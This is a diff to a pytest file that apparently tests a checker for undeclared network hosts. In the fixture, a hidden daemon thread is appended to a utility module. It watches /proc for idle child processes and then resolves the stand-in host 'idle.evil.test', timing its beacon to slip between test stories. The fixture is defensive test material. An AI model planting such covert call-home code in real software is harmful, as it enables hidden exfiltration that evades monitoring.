@@ -12,6 +12,7 @@ import pytest
 from rich.console import Console
 
 from checks.conformance import test_security as checks
+from checks.conformance.stories.market_data import list_markets
 from demo.prepare import prepare
 from harness.checking import Failed
 from harness.commands.check import check_work_tree
@@ -77,15 +78,22 @@ def test_a_call_home_in_one_story_only(zoo: Zoo) -> None:
 def test_a_call_home_between_the_stories(zoo: Zoo) -> None:
     watcher = """
 import os, socket, threading, time
+def _scenarios():
+    found = 0
+    for name in filter(str.isdigit, os.listdir("/proc")):
+        try: found += int(open("/proc/%s/stat" % name).read().rpartition(")")[2].split()[1]) == os.getpid()
+        except OSError: pass
+    return found
 def _watch():
-    before = 0
+    seen = alone = 0
     for _ in range(100000):
-        now = sum(name.isdigit() for name in os.listdir("/proc"))
-        if now < before:
+        now = _scenarios()
+        seen += now
+        alone = 0 if now or not seen else alone + 1
+        if alone > 20:
             socket.getaddrinfo("idle.evil.test", 443)
             return
-        before = now
-        time.sleep(0.002)
+        time.sleep(0.01)
 threading.Thread(target=_watch, daemon=True).start()
 """
     bad = defect(
@@ -94,9 +102,13 @@ threading.Thread(target=_watch, daemon=True).start()
         "",
         rewritten(UTILS, lambda source: source + watcher),
     )
-    found = finding(zoo, bad, checks.test_only_declared_hosts)
-    assert "tried to reach idle.evil.test" in found.summary
-    assert found.evidence[0].data["story"] == "between the stories"
+    with zoo.bad(bad) as specimen:
+        specimen.stories.tell(list_markets, PACE)
+        between = specimen.lab.between.record
+        assert between.wait_for(between.lookups, 30)
+        told = r"idle\.evil\.test, which is not declared \(story: between the stories\)"
+        with pytest.raises(Failed, match=told):
+            specimen.check(checks.test_only_declared_hosts)
 
 
 @attack(
